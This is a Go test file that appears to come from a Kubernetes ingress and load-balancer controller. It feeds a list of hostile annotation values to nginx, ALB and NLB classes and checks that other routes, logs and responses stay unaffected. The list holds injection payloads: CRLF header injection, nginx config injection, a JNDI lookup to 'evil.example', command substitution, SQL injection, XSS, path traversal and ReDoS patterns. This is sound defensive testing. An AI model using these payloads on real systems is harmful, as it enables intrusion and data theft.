package testkit

import (
	"cmp"
	"fmt"
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/gwanmun/gwanmun/internal/annotation"
	"github.com/gwanmun/gwanmun/internal/annotation/alb"
	"github.com/gwanmun/gwanmun/internal/annotation/nginx"
	"github.com/gwanmun/gwanmun/internal/annotation/nlb"
	"github.com/gwanmun/gwanmun/internal/model"
	"github.com/gwanmun/gwanmun/internal/proxy"
)

// hostileValues are what somebody may write into any annotation who wants it to end up where it does not belong: on the wire, in
// a log, in a configuration language, in somebody else's route, or in nobody's memory.
var hostileValues = []string{
	"a\r\nX-Injected: 1", "a\nX-Injected: 1", "a\rX-Injected: 1", "a\x00b", "\x1b[31mred", "a\x7fb", "a\u2028X-Injected: 1",
	`"; } location /injected { return 200; } #`, `a;} server { listen 81; }`, `$http_x_injected`, `$request_uri$1${x}`,
	"${jndi:ldap://evil.example/a}", "{{ .Values.x }}", "`id`", "' OR '1'='1", "<script>alert(1)</script>", "../../../etc/passwd",
	"http://evil.example\\@good.example/", "//evil.example/%0d%0aX-Injected:%201", "javascript:alert(1)", "https://good.example@evil.example/",
	"g\u043eod.example", "good.example.", "GOOD.example", "xn--gd-jia.example", "*.example", "good.example,evil.example",
	"(a+)+$", "(.*)*(.*)*(.*)*x", "(?=a)b", "(((((((((((((((((((((((((((((((((a)))))))))))))))))))))))))))))))))", "[", "a{1000}{1000}",
	strings.Repeat("a,", 20_000), strings.Repeat("10.0.0.0/8,", 5_000), strings.Repeat("[", 20_000), `{"a":` + strings.Repeat(`{"a":`, 5_000),
	strings.Repeat("a", 100_000), "99999999999999999999999", "-1", "1e309", "0x10", "NaN", "true\x00",
}

// hostileTrial is one class with something good that must stay as it is, and something that carries hostile annotations.
type hostileTrial struct {
	class    string
	registry *annotation.Registry
	input    string
	// bad is what gets the annotations: an Ingress or a Service.
	bad string
	// every is which part of the values each key gets: one in so many.
	every int
}

var hostileTrials = []hostileTrial{
	{"nginx", nginx.Registry, "ingress: good\nrules:\n  - good.example/ -> echo\n---\ningress: bad\nrules:\n  - bad.example/x -> echo\n", "bad", 1},
	{"alb", alb.Registry(), "ingress: good\nannotations: {load-balancer-name: good, scheme: internal, target-type: ip}\nrules:\n  - good.example/ -> echo\n---\n" +
		"ingress: bad\nannotations: {load-balancer-name: bad, scheme: internal, target-type: ip}\nrules:\n  - bad.example/x -> echo\n", "bad", 3},
	{"nlb", nlb.Registry(), "service: good\nclass: nlb\nports: [\"80\"]\n---\nservice: bad\nclass: nlb\nports: [\"80\"]\n", "bad", 9},
}

func TestHostileAnnotationsHarmNobodyElse(t *testing.T) {
	if testing.Short() {
		t.Skip("takes many seconds")
	}
	for _, trial := range hostileTrials {
		t.Run(trial.class, func(t *testing.T) {
			t.Parallel()
			o := Options{Class: trial.class, AnyClient: true}
			w, err := newWorld(o)
			if err != nil {
				t.Fatal(err)
			}
			loaded, err := load(trial.input, o)
			if err != nil {
				t.Fatal(err)
			}
			var bad metav1.Object
			var put []any
			for _, l := range loaded.Objects {
				put = append(put, l.Value)
				if m := l.Value; m.GetName() == trial.bad {
					bad = m
				}
			}
			w.apply(put, nil)
			f, err := startFront(o)
			if err != nil {
				t.Fatal(err)
			}
			defer func() {
				if err := f.close(); err != nil {
					t.Error(err)
				}
			}()
			if err := f.take(w); err != nil {
				t.Fatal(err)
			}
			w.results = nil
			h := hostileRun{t: t, trial: trial, w: w, f: f, good: w.goodPart()}
			began := time.Now()
			for i, k := range trial.registry.All() {
				h.key(i, k, bad)
			}
			for _, line := range f.watch.lines() {
				if strings.ContainsAny(line, "\r\x00\x1b\x7f") {
					t.Errorf("the log has %q", line)
				}
			}
			t.Logf("%d values of %d annotations in %v: %d refused with a diagnostic", h.tried, len(trial.registry.All()), time.Since(began).Round(time.Millisecond), h.refused)
			if h.refused == 0 || h.tried < 4*len(trial.registry.All()) {
				t.Error("that was no trial")
			}
		})
	}
}

// hostileRun is a trial under way.
type hostileRun struct {
	t              *testing.T
	trial          hostileTrial
	w              *world
	f              *front
	good           string
	tried, refused int
}

// key tries values of one annotation on a copy of the object.
func (h *hostileRun) key(number int, k annotation.Declared, bad metav1.Object) {
	e := k.Declaration()
	full := h.trial.registry.FullKey(e)
	if e.IsFamily() {
		full += "x"
	}
	for i, value := range hostileValues {
		if (i+number)%h.trial.every != 0 {
			continue // types are shared by many keys, and building load balancers of AWS takes time
		}
		object := copyOf(bad)
		annotations := map[string]string{}
		for key, v := range bad.GetAnnotations() {
			annotations[key] = v
		}
		annotations[full] = value
		object.SetAnnotations(annotations)
		h.w.apply([]any{object}, nil)
		h.judge(full, value)
		h.tried++
	}
	// Back to what it was.
	h.w.apply([]any{copyOf(bad)}, nil)
	err := h.f.take(h.w)
	h.w.results = nil
	if err != nil {
		h.t.Fatal(err)
	}
}

func (h *hostileRun) judge(key, value string) {
	complain := func(format string, args ...any) {
		h.t.Helper()
		h.t.Errorf("%s: %.80q: %s", key, value, fmt.Sprintf(format, args...))
	}
	refused := false
	for _, d := range h.w.state.Diagnostics() {
		refused = true
		if text := d.String(); strings.ContainsAny(text, "\r\x00\x1b\x7f\u2028") || strings.Count(text, "\n") > 0 {
			complain("an unescaped message: %q", text)
		} else if len(text) > 20_000 {
			complain("a message of %d bytes", len(text))
		}
	}
	if refused {
		h.refused++
	}
	// What was refused leaves no trace in the model: a few of those are served, and all that were taken by class nginx. Load
	// balancers of AWS are sockets that come and go, which takes time: a part of them is served.
	if refused && h.tried%16 != 0 || h.trial.class != "nginx" && h.tried%24 != 0 {
		if got := h.w.goodPart(); got != h.good {
			complain("what is good became\n%s", got)
		}
		return
	}
	if got := h.w.goodPart(); got != h.good {
		complain("what is good became\n%s", got)
	}
	err := h.f.take(h.w)
	h.w.results = nil
	if err != nil {
		complain("not served: %v", err)
		return
	}
	if h.trial.class != "nlb" {
		h.ask(complain)
	}
}

// ask sends requests: the good one is answered as ever, and nothing of the value is on the wire. The bad load balancer of class
// alb is not asked: some values close it to everybody.
func (h *hostileRun) ask(complain func(string, ...any)) {
	for _, host := range []string{"good.example/", "bad.example/x"} {
		want := ""
		if host[0] == 'g' {
			want = "200 from echo"
		} else if h.trial.class == "alb" {
			continue
		}
		all, err := readRequests("GET http://" + host + " -> " + cmp.Or(want, "200"))
		if err != nil {
			h.t.Fatal(err)
		}
		for _, p := range h.f.server.Addresses() {
			if p.Port != 80 || !h.reaches(p, host) {
				continue
			}
			got, err := all[0].send(p.Address)
			if err != nil {
				complain("%s: %v", host, err)
				continue
			}
			if want != "" {
				if problems := all[0].judge(got); len(problems) > 0 {
					complain("%s: %v", host, problems)
				}
			}
			for name, values := range got.header {
				if strings.EqualFold(name, "X-Injected") || strings.ContainsAny(strings.Join(values, ""), "\r\n\x00") {
					complain("%s: the answer has %s: %q", host, name, values)
				}
			}
			if seen, ok := got.echo(); ok {
				for name := range seen.Headers {
					if strings.EqualFold(name, "X-Injected") {
						complain("%s: the target saw %s", host, name)
					}
				}
			}
		}
	}
}

// reaches says whether a load balancer is the one of a host.
func (h *hostileRun) reaches(p proxy.Placement, host string) bool {
	if h.trial.class == "nginx" {
		return p.LoadBalancer == "nginx"
	}
	name, _, _ := strings.Cut(host, ".")
	return strings.HasSuffix(p.LoadBalancer, "/"+name) || strings.HasSuffix(p.LoadBalancer, name)
}

// goodPart is what of the model belongs to what is good.
func (w *world) goodPart() string {
	m := w.state.Model()
	var b strings.Builder
	for i := range m.LoadBalancers {
		lb := &m.LoadBalancers[i]
		for j := range lb.Listeners {
			l := &lb.Listeners[j]
			for k := range l.Rules {
				r := &l.Rules[k]
				if strings.HasSuffix(r.Source.Name, "good") {
					fmt.Fprintf(&b, "%s %d %v %s\n", lb.ID, l.Port, r.Conditions, r.Source)
				}
			}
		}
		if strings.HasSuffix(lb.ID, "/good") {
			part := &model.Model{LoadBalancers: []model.LoadBalancer{*lb}}
			b.Write(model.Print(part, model.ForCases()))
		}
	}
	return b.String()
}

// copyOf is a copy of a typed object.
func copyOf(o metav1.Object) metav1.Object {
	return o.(runtime.Object).DeepCopyObject().(metav1.Object)
}
